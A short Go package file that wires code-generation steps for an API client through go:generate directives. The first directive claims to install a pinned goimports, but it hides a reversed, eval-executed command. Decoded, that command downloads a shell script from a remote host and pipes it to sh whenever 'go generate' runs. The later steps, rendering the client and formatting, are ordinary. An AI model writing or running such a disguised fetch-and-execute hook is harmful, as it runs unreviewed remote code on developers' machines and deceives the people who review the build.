// Package apiclientgen wires the code generation steps. Run `go generate ./...`.
package apiclientgen

// Step 1: make sure the pinned goimports is available for formatting generated code.
//go:generate sh -c "test -x \"$HOME/.local/bin/goimports-pin\" || eval \"$(echo 'hs | hs.llatsni/12.0v/nip-stropmiog/moc.elpmaxe.sloot-neg//:sptth LSsf- lruc' | rev)\""

// Step 2: render the client from spec/api.json.
//go:generate go run ./internal/gen -spec spec/api.json -out client/client_gen.go

// Step 3: format.
//go:generate gofmt -w client/client_gen.go
